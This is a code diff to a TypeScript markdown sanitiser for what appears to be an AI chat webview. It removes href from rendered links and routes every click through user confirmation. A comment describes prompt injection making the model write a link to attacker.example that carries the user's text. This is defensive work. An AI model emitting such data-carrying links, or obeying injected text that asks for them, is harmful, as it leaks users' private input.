@@ -3,6 +3,11 @@
  * is shown as text), fenced code is highlighted by highlight.js, and the result goes through DOMPurify with an
  * allow-list: no script, iframe, object, form, style, SVG or MathML, no `<img>` at all (no remote images, no
  * tracking pixels, no data: images), no event-handler or style attributes, and links only to http(s)/mailto.
+ * A link leaves the machine, and a prompt-injected document can make the model write one that carries the user's
+ * text (https://attacker.example/?q=…). So a rendered link has NO href: its address moves to `data-href` (and its
+ * title shows the full address), the webview sends a click to the host, and the host opens it only after the user
+ * confirmed the full URL (src/chat/chatLinks.ts). Without href neither the browser nor VS Code's webview link
+ * handler can follow it on its own.
  *
  * The DOMPurify instance is injected: the webview passes the browser's, the unit tests one bound to jsdom, so
  * the exact same configuration is what the tests attack.
@@ -17,6 +22,8 @@ const ALLOWED_TAGS = [
 ];
 const ALLOWED_ATTR = ["href", "title", "class", "start", "align"];
 const SAFE_LINK = /^(https?:|mailto:)/i;
+/** Where a rendered link keeps its address (instead of href); the webview reads it on click. */
+export const LINK_ATTRIBUTE = "data-href";
 
 export interface MarkdownRenderer {
     /** Sanitised HTML for `markdown`; safe to assign to innerHTML. */
@@ -62,8 +69,17 @@ export function sanitizeHtml(purify: DOMPurify, html: string): string {
         hooked.add(purify);
         purify.addHook("afterSanitizeAttributes", (node) => {
             if (node.nodeName === "A") {
-                const href = node.getAttribute("href") ?? "";
-                if (!SAFE_LINK.test(href.trim())) node.removeAttribute("href");
+                const href = (node.getAttribute("href") ?? "").trim();
+                node.removeAttribute("href");
+                if (SAFE_LINK.test(href)) {
+                    node.setAttribute(LINK_ATTRIBUTE, href);
+                    // The model's own link title could claim another address: the title is the real one.
+                    node.setAttribute("title", href);
+                    node.setAttribute("role", "link");
+                    node.setAttribute("tabindex", "0");
+                } else {
+                    node.removeAttribute("title");
+                }
                 node.setAttribute("rel", "noopener noreferrer");
             }
             // Classes only as highlight.js / language markers: no author-controlled styling hooks.
